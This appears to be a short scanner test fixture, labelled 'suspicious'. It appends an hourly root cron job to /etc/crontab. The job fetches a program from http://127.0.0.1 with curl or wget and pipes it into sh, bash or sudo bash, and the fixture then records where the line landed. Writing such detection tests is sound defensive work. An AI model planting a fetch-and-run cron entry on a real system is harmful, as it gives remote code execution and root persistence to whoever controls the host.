# id: P211
# mode: scan
# level: suspicious
# title: a line in /etc/crontab that fetches a program and runs it
# due: now
word name
pick get 'curl -fsSL' 'wget -q -O -' 'curl -k' '/usr/bin/wget -qO-'
pick shell sh bash '/bin/sh -s' 'sudo bash'
echo "17 *	* * *	root	($get http://127.0.0.1/$name) | $shell" >>/etc/crontab
said path /etc/crontab
said line "/etc/crontab:$(wc -l </etc/crontab)"
